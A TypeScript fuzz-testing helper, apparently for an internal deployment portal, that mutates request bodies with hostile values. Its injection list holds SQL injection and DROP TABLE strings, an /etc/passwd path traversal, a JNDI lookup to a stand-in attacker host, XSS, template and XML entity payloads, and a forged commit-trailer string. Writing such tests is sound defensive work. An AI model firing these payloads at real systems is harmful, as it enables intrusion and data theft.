import fc from 'fast-check';

/**
 * What an attacker of an internal portal sends in place of a field: strings that try SQL, paths,
 * templates, commit trailers and control characters; huge and unicode strings; absurd numbers and
 * dates; wrong types; nesting thousands deep.
 */
export const INJECTIONS = [
  "' OR '1'='1",
  '1; DROP TABLE delivery_deployments; --',
  '%',
  '_',
  '\\',
  '../../../../etc/passwd',
  '${jndi:ldap://attacker/a}',
  '{{7*7}}',
  '<script>alert(1)</script>',
  '\u0000',
  'v1\nRequested-By: user:default/alex.moreno\nRunway-Deploy-Id: forged',
  '\u202egnp.exe',
  '   ',
  '',
  'null',
  '__proto__',
  'constructor',
  'component:default/payments-api\u0000',
];

const ABSURD_NUMBERS = [
  0,
  -1,
  -0.5,
  0.5,
  1e308,
  -1e308,
  5e-324,
  2 ** 53 + 2,
  1e21,
  Number.MAX_SAFE_INTEGER,
];

const ODD_DATES = [
  '0000-01-01T00:00:00Z',
  '0001-01-01T00:00:00Z',
  '1970-01-01T00:00:00Z',
  '9999-12-31T23:59:59Z',
  '2026-02-30T00:00:00Z',
  '2026-12-05',
  '2026-12-05T10:00:00+99:00',
  'yesterday',
];

/** Nested `depth` deep, built without recursion. */
export function nested(depth: number): unknown {
  let value: unknown = 1;
  for (let i = 0; i < depth; i++) value = [value];
  return value;
}

/**
 * A value too big to print: sent in full (toJSON), shown as its name in fast-check's reports.
 */
class Big {
  constructor(
    private readonly name: string,
    private readonly make: () => unknown,
  ) {}
  toJSON() {
    return this.make();
  }
  [fc.toStringMethod]() {
    return this.name;
  }
}

export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  fc.constantFrom(...INJECTIONS),
  fc.string({ maxLength: 40 }),
  fc.string({ unit: 'binary', maxLength: 40 }),
  fc.constantFrom(
    new Big('"x" x 100,001', () => 'x'.repeat(100_001)),
    new Big('"😀" x 20,000', () => '😀'.repeat(20_000)),
  ),
  fc.constantFrom(...ABSURD_NUMBERS),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
  fc.integer(),
  fc.constantFrom(...ODD_DATES),
  fc.constantFrom(null, true, false, [], {}, [null], { a: 1 }),
  fc.constant(new Big('arrays nested 3,000 deep', () => nested(3000))),
  fc.constant(new Big('10,000 nulls', () => new Array(10_000).fill(null))),
);

/** One change to a request: replace or delete a field, or add one. */
type Op =
  | { kind: 'set'; at: number; value: unknown }
  | { kind: 'delete'; at: number }
  | { kind: 'add'; at: number; key: string; value: unknown };

export const ops: fc.Arbitrary<Op[]> = fc.array(
  fc.oneof(
    {
      weight: 5,
      arbitrary: fc.record({
        kind: fc.constant('set' as const),
        at: fc.nat(),
        value: hostileValue,
      }),
    },
    {
      weight: 2,
      arbitrary: fc.record({
        kind: fc.constant('delete' as const),
        at: fc.nat(),
      }),
    },
    {
      weight: 2,
      arbitrary: fc.record({
        kind: fc.constant('add' as const),
        at: fc.nat(),
        key: fc.oneof(
          fc.constantFrom('__proto__', 'constructor', 'extra', 'id'),
          fc.string({ maxLength: 20 }),
        ),
        value: hostileValue,
      }),
    },
  ),
  { minLength: 1, maxLength: 3 },
);

type Path = Array<string | number>;

/** The places in a JSON value a change may go (the root first), up to 12 levels and 500 places. */
function pathsOf(value: unknown): Path[] {
  const out: Path[] = [];
  const stack: Array<[unknown, Path]> = [[value, []]];
  while (stack.length > 0 && out.length < 500) {
    const [at, path] = stack.pop()!;
    out.push(path);
    if (path.length >= 12 || !at || typeof at !== 'object') continue;
    for (const [k, v] of Object.entries(at).slice(0, 50))
      stack.push([v, [...path, Array.isArray(at) ? Number(k) : k]]);
  }
  return out;
}

const clone = <T>(value: T): T => {
  const text = JSON.stringify(value);
  return text === undefined ? (value as T) : JSON.parse(text);
};

function parentOf(root: unknown, path: Path): any {
  let at: any = root;
  for (const key of path.slice(0, -1)) at = at?.[key];
  return at;
}

/** The seed with the ops applied; a change at the root replaces the whole body. */
export function mutate(seed: unknown, changes: Op[]): unknown {
  let root = clone(seed);
  for (const op of changes) {
    const paths = pathsOf(root);
    const path = paths[op.at % paths.length];
    // A copy of the value: later changes must not reach into the arbitrary's constants.
    const value = 'value' in op ? clone(op.value) : undefined;
    if (op.kind === 'set') {
      if (path.length === 0) root = value;
      else parentOf(root, path)[path[path.length - 1]] = value;
    } else if (op.kind === 'delete') {
      if (path.length === 0) continue;
      const parent = parentOf(root, path);
      if (Array.isArray(parent))
        parent.splice(Number(path[path.length - 1]), 1);
      else delete parent[path[path.length - 1]];
    } else {
      const target =
        path.length === 0 ? root : parentOf(root, path)[path[path.length - 1]];
      if (target && typeof target === 'object' && !Array.isArray(target))
        Object.defineProperty(target, op.key, {
          value,
          enumerable: true,
          writable: true,
          configurable: true,
        });
    }
  }
  return root;
}

/** Every string in a value (and key): what a response may echo without it being a leak. */
export function stringsOf(value: unknown): string[] {
  const out: string[] = [];
  const stack: unknown[] = [value];
  while (stack.length > 0) {
    const at = stack.pop();
    if (typeof at === 'string') out.push(at);
    else if (at && typeof at === 'object')
      for (const [k, v] of Object.entries(at)) {
        out.push(k);
        stack.push(v);
      }
  }
  return out;
}

/** Changes to a text body (XML): a hostile string inserted, a slice cut. */
export const textOps = fc.array(
  fc.record({
    at: fc.nat(),
    cut: fc.nat({ max: 200 }),
    insert: fc.constantFrom(
      ...INJECTIONS,
      '<!DOCTYPE x [<!ENTITY a "aaaa">]>',
      '&a;',
      ']]>',
      '<testcase',
    ),
  }),
  { minLength: 1, maxLength: 3 },
);

export function mutateText(
  seed: string,
  changes: Array<{ at: number; cut: number; insert: string }>,
) {
  let text = seed;
  for (const c of changes) {
    const at = c.at % (text.length + 1);
    text = text.slice(0, at) + c.insert + text.slice(at + c.cut);
  }
  return text;
}
